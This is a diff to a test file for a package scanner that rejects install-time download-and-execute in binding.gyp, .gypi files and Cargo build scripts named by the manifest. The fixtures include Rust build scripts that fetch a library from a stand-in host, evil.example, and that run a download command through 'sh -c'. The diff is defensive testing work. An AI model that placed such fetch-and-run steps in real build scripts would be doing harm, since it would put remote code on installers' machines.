@@ -38,6 +38,18 @@ describe('install-time download-and-execute outside package.json/setup.py', () =
       'install:gyp_command',
     ],
     [
+      'a binding.gyp importing its own Python module (pymod_do_main runs its DoMain)',
+      'binding.gyp',
+      "{ 'targets': [ { 'target_name': 'addon', 'cflags': [ '<!pymod_do_main(flags --release)' ] } ] }\n",
+      'install:gyp_command',
+    ],
+    [
+      'the list form <!@pymod_do_main in an included .gypi',
+      'common.gypi',
+      "{\n  'variables': {\n    'libs': '<!@pymod_do_main(find_libs x64)',\n  },\n}\n",
+      'install:gyp_command',
+    ],
+    [
       'Cargo build.rs running a download through sh -c',
       'build.rs',
       `use std::process::Command;\nfn main() {\n    Command::new("sh").arg("-c").arg("${EVIL}").status().unwrap();\n}\n`,
@@ -78,6 +90,64 @@ describe('install-time download-and-execute outside package.json/setup.py', () =
   });
 });
 
+describe('a Cargo build script not named build.rs (`build = "gen.rs"`)', () => {
+  const FETCH =
+    'fn main() {\n    let body = reqwest::blocking::get("https://evil.example/lib.so").unwrap().bytes().unwrap();\n    std::fs::write("/tmp/lib.so", body).unwrap();\n}\n';
+  const manifest = (build: string) =>
+    `[package]\nname = "x"\nversion = "0.1.0"\nbuild = ${build}\n\n[dependencies]\nreqwest = "0.12"\n`;
+
+  it('the script a manifest names is read as build.rs is, whichever comes first', async () => {
+    const before = await scanWith({
+      'Cargo.toml': manifest('"tools/gen.rs"'),
+      'tools/gen.rs': FETCH,
+    });
+    const after = await scanWith({
+      'crate/tools/gen.rs': FETCH,
+      'crate/Cargo.toml': manifest("'tools/gen.rs'"),
+    });
+    expect(before.verdict === 'reject' && before.findings[0]).toMatchObject({
+      check: 'install:cargo_build',
+      file: 'tools/gen.rs',
+      line: 2,
+      detail: 'network',
+    });
+    expect(after.verdict === 'reject' && after.findings[0]).toMatchObject({
+      check: 'install:cargo_build',
+      file: 'crate/tools/gen.rs',
+      line: 2,
+    });
+  });
+
+  it('a path with .. and ./, and package.build at the top level', async () => {
+    const out = await scanWith({
+      'shared/gen.rs': `use std::process::Command;\nfn main() {\n    Command::new("sh").arg("-c").arg("${EVIL}").status().unwrap();\n}\n`,
+      'crates/a/Cargo.toml': 'package.build = "./../../shared/gen.rs"\n[package]\nname = "a"\n',
+    });
+    expect(out.verdict === 'reject' && out.findings[0]).toMatchObject({
+      check: 'install:cargo_build',
+      file: 'shared/gen.rs',
+      detail: 'download_command',
+    });
+  });
+
+  it('a build script Cargo compiles though it is not a .rs file is refused', async () => {
+    const out = await scanWith({ 'Cargo.toml': manifest('"build.txt"'), 'build.txt': FETCH });
+    expect(out.verdict === 'reject' && out.findings[0]).toMatchObject({
+      check: 'install:cargo_build',
+      file: 'Cargo.toml',
+      detail: 'build_script_not_rs',
+    });
+  });
+
+  it.each([
+    ['build = false', 'false'],
+    ['a build key outside [package]', '"build.rs"\n[features]\nbuild = "src/client.rs"'],
+  ])('an HTTP client in ordinary source stays accepted: %s', async (_what, build) => {
+    const out = await scanWith({ 'Cargo.toml': manifest(build), 'src/client.rs': FETCH });
+    expect(out.verdict === 'reject' ? out.findings : 'accept').toBe('accept');
+  });
+});
+
 describe('honest build files are accepted', () => {
   it.each([
     [
@@ -113,8 +183,17 @@ fn main() {
 }
 `,
     ],
+    [
+      'the same honest script named by the manifest as build/main.rs',
+      'build/main.rs',
+      'fn main() {\n    println!("cargo:rerun-if-changed=src/native.c");\n    cc::Build::new().file("src/native.c").compile("native");\n}\n',
+    ],
   ])('%s', async (_what, file, text) => {
-    const out = await scanWith({ ...CARGO, [file]: text });
+    const cargo =
+      file === 'build/main.rs'
+        ? { 'Cargo.toml': CARGO['Cargo.toml'].replace('"build.rs"', '"build/main.rs"') }
+        : CARGO;
+    const out = await scanWith({ ...cargo, [file]: text });
     expect(out.verdict === 'reject' ? out.findings : 'accept').toBe('accept');
   });
 });
